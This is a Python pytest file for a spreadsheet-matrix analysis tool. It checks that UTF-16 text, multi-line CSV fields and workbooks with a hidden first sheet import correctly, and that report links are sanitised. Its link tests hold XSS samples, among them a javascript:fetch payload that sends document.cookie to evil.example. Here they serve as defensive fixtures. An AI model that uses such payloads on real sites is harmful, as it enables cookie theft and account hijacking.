"""Round two (issue 17): files that are fine must be read, and read right.

The hostile corpus proves refusals; these prove the fixes did not refuse or
mangle what a colleague legitimately sends: UTF-16 text (Excel's "Unicode
Text"), a workbook whose first sheet is hidden, a quoted field over two
lines; and that what a file may carry cannot act (links in a report).
"""

from __future__ import annotations

import io
import sys
from pathlib import Path

import openpyxl
import pytest

from workbench.core.edits import UpdateEvidence
from workbench.core.errors import BadInput
from workbench.core.links import is_safe_link
from workbench.core.model import Evidence, Project
from workbench.exchange.matrix_import import read_matrix
from workbench.reports.content import build_report
from workbench.reports.html import render_html

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from bad_corpus_round2 import _small_matrix_bytes  # noqa: E402

TEXT = "ID\tEvidence\tH1: Übergabe\tH2: Sabotage\r\nE1\tLog café – night\tC\tII\r\n"


@pytest.mark.parametrize(
    ("name", "encoding"),
    [("unicode.txt", "utf-16"), ("le.csv", "utf-16-le"), ("be.tsv", "utf-16-be")],
)
def test_utf16_text_is_read(tmp_path: Path, name: str, encoding: str) -> None:
    path = tmp_path / name
    path.write_bytes(TEXT.encode(encoding))
    project = read_matrix(path)
    assert [h.title for h in project.hypotheses] == ["Übergabe", "Sabotage"]
    assert project.evidence[0].title == "Log café – night"


def test_a_quoted_field_over_two_lines_is_still_one_cell(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    path.write_text('ID,Evidence,H1\r\nE1,"two\r\nlines",C\r\nE2,x,I\r\n', encoding="utf-8")
    assert [e.title for e in read_matrix(path).evidence] == ["two\r\nlines", "x"]


def test_a_hidden_first_sheet_is_skipped_for_the_visible_one(tmp_path: Path) -> None:
    path = tmp_path / "hidden-first.xlsx"
    path.write_bytes(_small_matrix_bytes(hidden_first=True))
    project = read_matrix(path)
    assert [h.title for h in project.hypotheses] == ["Accident", "Sabotage"]
    # Named, the hidden sheet is read: the analyst asked for it.
    assert [h.title for h in read_matrix(path, sheet="Secret").hypotheses] == ["Planted"]


def test_binary_data_is_still_called_binary(tmp_path: Path) -> None:
    path = tmp_path / "b.csv"
    path.write_bytes(b"ID,Evidence\x00\x01\x02\xff" * 50 + b"\x00")
    with pytest.raises(BadInput, match="binary file"):
        read_matrix(path)


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/a", True),
        ("HTTP://example.org", True),
        ("mailto:ana@example.org", True),
        ("file:///srv/report.pdf", True),
        ("javascript:fetch('https://evil')", False),
        ("java\tscript:alert(1)", False),
        (" \x01javascript:alert(1)", False),
        ("data:text/html,<script>", False),
        ("vbscript:x", False),
        ("example.org/no-scheme", False),
    ],
)
def test_only_safe_schemes_are_links(url: str, safe: bool) -> None:
    assert is_safe_link(url) is safe


def test_a_javascript_link_in_a_report_is_text() -> None:
    from workbench.exchange.example import load_example

    project = load_example()
    bad, good = "javascript:fetch('https://evil.example/'+document.cookie)", "https://ok.example"
    project.sources[0].link, project.sources[1].link = bad, good
    html = render_html(build_report(project, app_version="t"), {})
    assert 'href="javascript' not in html
    assert "javascript:fetch(" in html  # still there to read
    assert f'href="{good}"' in html


def test_typed_text_over_the_limit_is_refused_before_any_change() -> None:
    project = Project("T")
    project.insert_evidence(0, Evidence(project.new_id(), "E1", "short"))
    with pytest.raises(BadInput, match="32,767"):
        UpdateEvidence(project.evidence[0].id, {"title": "x" * 40_000}).apply(project)
    assert project.evidence[0].title == "short"


def test_workbook_bytes_helper_is_a_real_workbook() -> None:
    assert openpyxl.load_workbook(io.BytesIO(_small_matrix_bytes())).sheetnames == ["Matrix"]
